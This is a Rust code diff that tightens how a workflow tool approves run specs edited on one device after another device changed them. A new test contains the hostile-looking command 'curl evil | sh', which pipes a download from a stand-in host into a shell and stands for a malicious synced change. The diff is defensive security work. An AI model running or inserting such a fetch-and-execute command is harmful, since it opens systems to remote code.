@@ -67,17 +67,27 @@ impl TrustedSpec {
         }
     }
 
-    /// What a change to `spec` by this device approves: the parts it wrote.
-    pub fn after_local_change(&self, spec: &WorkflowSpec, changes: &[FieldChange]) -> TrustedSpec {
+    /// What a change by this device from `before` to `after` approves: the
+    /// parts it wrote, where what it wrote over was approved. Over a part
+    /// another device changed and this one has not approved, an edit here
+    /// approves nothing: the user saw (and wrote) one field of it, not the
+    /// command that came with it; `workflow approve` is the one way.
+    pub fn after_local_change(
+        &self,
+        before: &WorkflowSpec,
+        after: &WorkflowSpec,
+        changes: &[FieldChange],
+    ) -> TrustedSpec {
         let wrote = |field: &str| changes.iter().any(|c| c.field == field);
+        let was = TrustedSpec::of(before);
         TrustedSpec {
-            run: if wrote("config.run") {
-                spec.config.run.clone()
+            run: if wrote("config.run") && was.run == self.run {
+                after.config.run.clone()
             } else {
                 self.run.clone()
             },
-            retention: if wrote("config.retention") {
-                spec.config.retention.clone()
+            retention: if wrote("config.retention") && was.retention == self.retention {
+                after.config.retention.clone()
             } else {
                 self.retention.clone()
             },
@@ -512,6 +522,48 @@ mod tests {
             "old is what this device changed from, not what the document holds"
         );
         assert!(unsent(&base, &base, &now).is_empty());
+    }
+
+    fn with_command(base: &WorkflowSpec, command: &str) -> WorkflowSpec {
+        let mut s = base.clone();
+        s.config.run = Some(crate::config::RunSpec {
+            command: vec![command.into()],
+            cwd: None,
+            env: Default::default(),
+            timeout_s: None,
+            inherit_env: vec![],
+            schedule: None,
+        });
+        s
+    }
+
+    #[test]
+    fn an_edit_here_approves_the_run_spec_it_writes_only_over_an_approved_one() {
+        let mine = with_command(&spec(), "mine");
+        let approved = TrustedSpec::of(&mine);
+        // Over an approved run spec: what it writes is approved.
+        let edited = with_command(&mine, "edited");
+        let after = approved.after_local_change(&mine, &edited, &diff(&mine, &edited));
+        assert_eq!(after, TrustedSpec::of(&edited));
+
+        // Another device changed the command; not approved here. An edit of
+        // the run spec here (a timeout, an owner) carries that command on:
+        // it approves nothing.
+        let theirs = with_command(&mine, "curl evil | sh");
+        let mut timeout = theirs.clone();
+        timeout.config.run.as_mut().unwrap().timeout_s = Some(5);
+        let after = approved.after_local_change(&theirs, &timeout, &diff(&theirs, &timeout));
+        assert_eq!(after, approved, "still the approved command only");
+        // Nor does a whole new run spec written over it: `workflow approve`
+        // is the one way past a change from elsewhere.
+        let replaced = with_command(&theirs, "mine again, edited");
+        let after = approved.after_local_change(&theirs, &replaced, &diff(&theirs, &replaced));
+        assert_eq!(after, approved);
+        // An edit of something else keeps the approval as it was.
+        let mut renamed = theirs.clone();
+        renamed.name = "renamed".into();
+        let after = approved.after_local_change(&theirs, &renamed, &diff(&theirs, &renamed));
+        assert_eq!(after, approved);
     }
 
     #[test]
